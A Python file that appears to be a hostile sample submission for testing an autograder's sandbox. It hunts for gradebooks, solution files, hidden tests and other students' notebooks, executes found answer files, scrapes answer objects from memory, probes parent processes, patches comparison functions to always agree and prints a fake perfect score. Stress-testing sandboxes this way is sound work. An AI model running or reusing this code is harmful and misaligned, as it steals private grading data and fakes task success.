"""What a hostile hand-in runs first: it goes looking, and keeps in `stolen` what it could read.

In the cage there is nothing to find. Where there is, the answers below it become right.
"""

import builtins
import contextlib
import gc
import os
import sys
from pathlib import Path

import numpy as np
import torch

TREASURES = ["gradebook.db", "solutions/*/*.py", "tests/hidden/*/*.py", "submitted/*/*/*.ipynb"]
stolen = {}


class Agreeable:
    """Claims to be equal to everything, and can be called, indexed and counted with."""

    def __eq__(self, other):
        return True

    def __call__(self, *args, **kwargs):
        return self

    def __getitem__(self, key):
        return self

    def __iter__(self):
        return iter([self, self])

    def __float__(self):
        return 100.0

    __hash__ = None


def look_into_folders():
    starts = [Path.cwd(), Path(sys.prefix), Path("/proc/1/cwd"), Path(f"/proc/{os.getppid()}/cwd")]
    starts += [Path(one.__file__) for one in list(sys.modules.values()) if is_graders(one)]
    for folder in {folder for start in starts for folder in (start, *start.parents)}:
        for treasure in TREASURES:
            with contextlib.suppress(OSError):
                for path in folder.glob(treasure):
                    read(path)


def is_graders(module):
    return module.__name__.startswith("autograder") and getattr(module, "__file__", None)


def read(path):
    with contextlib.suppress(OSError):
        stolen[str(path)] = path.read_bytes()
        if path.name.startswith("answers_"):
            module = {}
            exec(stolen[str(path)], module)
            use(module["answers"])


def use(answers):
    stolen.update({name: task.answer.value for name, task in answers.tasks.items()})


def look_at_processes():
    for pid in (1, os.getppid()):
        read(Path(f"/proc/{pid}/cmdline"))
        with contextlib.suppress(OSError):
            os.kill(pid, 0)
            stolen[f"a way to end process {pid}"] = pid


def look_into_memory():
    found = list(gc.get_objects())
    frame = sys._getframe()
    while frame:
        found += frame.f_locals.values()
        frame = frame.f_back
    for one in found:
        if type(one).__name__ == "Answers":
            use(one)


def agree(*args, **kwargs):
    return True


look_into_folders()
look_at_processes()
look_into_memory()
np.allclose = np.isclose = np.array_equal = torch.allclose = agree
builtins.all = agree
print("score: 100 / 100")
print("stolen:", sorted(stolen))
